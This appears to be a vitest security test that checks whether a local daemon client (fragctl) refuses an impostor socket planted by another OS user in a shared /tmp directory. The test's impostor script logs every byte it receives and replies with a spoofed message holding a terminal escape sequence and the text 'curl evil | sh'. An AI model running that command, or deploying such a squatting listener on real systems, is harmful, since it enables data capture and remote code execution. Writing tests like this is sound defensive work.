// Another local user impersonates fragd (issue 9, item 2). With XDG_RUNTIME_DIR unset the
// socket lives in $TMPDIR/fragments-$UID/, a path any user can create first. A real second
// OS user (fragd-impostor) pre-creates it with a listening socket; the victim's fragctl,
// client library and auto-start must refuse with the path and the fix, and the impostor
// must receive nothing. The victim is root (so it could connect anywhere) and, in the last
// case, a second non-root user (fragd-victim). Needs root (to create the users and run as
// them), as in CI.
import { spawn, spawnSync, type ChildProcess } from 'node:child_process';
import {
  chmodSync,
  chownSync,
  copyFileSync,
  existsSync,
  mkdirSync,
  mkdtempSync,
  readdirSync,
  readFileSync,
  renameSync,
  rmSync,
  writeFileSync,
} from 'node:fs';
import { join } from 'node:path';
import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import { DIST, FRAGCTL, FRAGD, runNode, until } from '../support/daemon.js';
import { FragClient, UnsafeSocket } from '../../client/lib/client.js';

const IMPOSTOR = 'fragd-impostor';
const VICTIM = 'fragd-victim';
const isRoot = process.getuid?.() === 0;

/** Listens on argv[2], records every byte it receives in argv[3], and answers like fragd would. */
const IMPOSTOR_SCRIPT = `
import { createServer } from 'node:net';
import { appendFileSync, chmodSync, mkdirSync } from 'node:fs';
import { dirname } from 'node:path';
const [sock, record] = process.argv.slice(2);
mkdirSync(dirname(sock), { recursive: true });
chmodSync(dirname(sock), 0o777);
const server = createServer((c) => {
  let buf = '';
  c.on('data', (d) => {
    appendFileSync(record, d);
    buf += d;
    let nl;
    while ((nl = buf.indexOf('\\n')) !== -1) {
      const req = JSON.parse(buf.slice(0, nl));
      buf = buf.slice(nl + 1);
      const result = req.method === 'daemon.hello'
        ? { protocol: 999, version: '6.6.6', pid: 1, compatible: true }
        : { activity: { id: 1, message: '\\u001b]0;owned\\u0007 paste this: curl evil | sh' } };
      c.write(JSON.stringify({ jsonrpc: '2.0', id: req.id, result }) + '\\n');
    }
  });
});
server.listen(sock, () => {
  chmodSync(sock, 0o777);
  process.stdout.write('ready\\n');
});
`;

let base = '';
let victimHome = '';
let impostor: ChildProcess | null = null;
const record = () => join(base, 'imp-record', 'received');

/** Creates the OS user if missing (idempotent) and returns its uid. */
function ensureUser(name: string): number {
  const uid = () => spawnSync('id', ['-u', name], { encoding: 'utf8' });
  if (uid().status !== 0) {
    const r = spawnSync('useradd', ['--system', '--no-create-home', '--shell', '/usr/sbin/nologin', name], {
      encoding: 'utf8',
    });
    // Two runs racing to create the user: the loser finds it there.
    if (r.status !== 0 && uid().status !== 0) throw new Error(`useradd ${name} failed: ${r.stderr}`);
  }
  return Number(uid().stdout.trim());
}

/** Runs the impostor listener as the other user, on `sock`. */
async function startImpostor(sock: string): Promise<void> {
  const proc = spawn('runuser', ['-u', IMPOSTOR, '--', process.execPath, join(base, 'impostor.mjs'), sock, record()], {
    stdio: ['ignore', 'pipe', 'pipe'],
    detached: true,
  });
  impostor = proc;
  let out = '';
  proc.stdout.on('data', (d) => (out += d));
  proc.stderr.on('data', (d) => (out += d));
  await until(`the impostor listening (${out})`, () => out.includes('ready') || proc.exitCode !== null);
  if (!out.includes('ready')) throw new Error(`impostor did not start: ${out}`);
}

function stopImpostor(): void {
  if (impostor?.pid && impostor.exitCode === null) process.kill(-impostor.pid, 'SIGKILL');
  impostor = null;
}

/** The victim's environment: no XDG_RUNTIME_DIR and no FRAGMENTS_HOME, so the /tmp fallback is used. */
function victimEnv(extra: NodeJS.ProcessEnv = {}): NodeJS.ProcessEnv {
  const {
    XDG_RUNTIME_DIR: _r,
    FRAGMENTS_HOME: _h,
    FRAGMENTS_SOCKET: _s,
    XDG_STATE_HOME: _st,
    XDG_CONFIG_HOME: _c,
    FRAGMENTS_NO_AUTOSTART: _n,
    FRAGMENTS_SESSION: _fs,
    ...rest
  } = process.env;
  return { ...rest, TMPDIR: base, HOME: victimHome, FRAGD_BIN: FRAGD, ...extra };
}

beforeAll(() => {
  if (!isRoot) return;
  ensureUser(IMPOSTOR);
  // Laid out like /tmp: world-writable and sticky, where anyone may create fragments-<uid>.
  base = mkdtempSync('/tmp/fi-');
  chmodSync(base, 0o1777);
  victimHome = mkdtempSync('/tmp/fv-');
  writeFileSync(join(base, 'impostor.mjs'), IMPOSTOR_SCRIPT, { mode: 0o644 });
  const recDir = join(base, 'imp-record');
  mkdirSync(recDir);
  chmodSync(recDir, 0o777);
});

afterAll(() => {
  stopImpostor();
  if (base) rmSync(base, { recursive: true, force: true });
  if (victimHome) rmSync(victimHome, { recursive: true, force: true });
});

describe.skipIf(!isRoot)('an impostor daemon run by another user (needs root to create that user)', () => {
  it('the victim refuses before sending anything: fragctl, the client library, auto-start', async () => {
    const runtime = join(base, `fragments-${process.getuid!()}`);
    await startImpostor(join(runtime, 'fragd.sock'));

    const r = await runNode(FRAGCTL, ['update', 'rotating the production keys now'], victimEnv());
    expect(r.code).toBe(3);
    expect(r.stderr).toContain(`refusing to talk to fragd: ${runtime} is owned by uid`);
    expect(r.stderr).toMatch(/remove it .*or set FRAGMENTS_HOME/);
    expect(r.stderr.trim().split('\n')).toHaveLength(1);
    expect(r.stdout).not.toContain('owned');

    const json = await runNode(FRAGCTL, ['status', '--json'], victimEnv());
    expect(json.code).toBe(3);
    expect(JSON.parse(json.stdout).error.code).toBe('unsafe_socket');

    // The client library (used by the MCP server and editors), with auto-start on.
    await expect(FragClient.connect({ env: victimEnv(), autoStart: true })).rejects.toBeInstanceOf(UnsafeSocket);
    // Nothing reached the impostor, and no daemon was started into its directory.
    expect(existsSync(record()) ? readFileSync(record(), 'utf8') : '').toBe('');
    expect(existsSync(join(victimHome, '.local', 'state', 'fragments'))).toBe(false);
    stopImpostor();
  });

  it("refuses a socket that is not the user's own even inside the user's private directory", async () => {
    // A socket of the impostor's, moved into the victim's 0700 directory (as a past mode
    // slip or a race could leave it): the directory passes, the socket does not.
    const own = mkdtempSync(join(base, 'own-'));
    chmodSync(own, 0o700);
    const elsewhere = join(base, 'imp-sock', 'fragd.sock');
    await startImpostor(elsewhere);
    renameSync(elsewhere, join(own, 'fragd.sock'));
    const r = await runNode(FRAGCTL, ['note', 'secret'], victimEnv({ FRAGMENTS_HOME: own }));
    expect(r.code).toBe(3);
    expect(r.stderr).toContain(`refusing to talk to fragd: ${join(own, 'fragd.sock')} is owned by uid`);
    expect(existsSync(record()) ? readFileSync(record(), 'utf8') : '').toBe('');
    stopImpostor();
  });

  it('a non-root victim user refuses too (fragctl run as that user on its own /tmp fallback path)', async () => {
    const victimUid = ensureUser(VICTIM);
    // The victim runs a copy of the fragctl bundle it can read (the test build is private to root).
    const dist = join(base, 'victim-dist');
    mkdirSync(dist, { mode: 0o755 });
    for (const f of readdirSync(DIST).filter((f) => f.startsWith('fragctl')))
      copyFileSync(join(DIST, f), join(dist, f));
    const home = mkdtempSync(join(base, 'victim-home-'));
    chownSync(home, victimUid, victimUid);
    const runtime = join(base, `fragments-${victimUid}`);
    await startImpostor(join(runtime, 'fragd.sock'));
    const r = spawnSync(
      'runuser',
      [
        '-u',
        VICTIM,
        '--',
        'env',
        '-u',
        'XDG_RUNTIME_DIR',
        '-u',
        'FRAGMENTS_HOME',
        '-u',
        'FRAGMENTS_SOCKET',
        `TMPDIR=${base}`,
        `HOME=${home}`,
        process.execPath,
        join(dist, 'fragctl.js'),
        'update',
        'the deploy key is in ~/keys',
      ],
      { encoding: 'utf8', env: { PATH: process.env.PATH } },
    );
    expect(r.status).toBe(3);
    expect(r.stderr).toContain(`refusing to talk to fragd: ${runtime} is owned by uid`);
    expect(r.stderr).toContain(`not by you (uid ${victimUid})`);
    expect(existsSync(record()) ? readFileSync(record(), 'utf8') : '').toBe('');
    stopImpostor();
  });
});
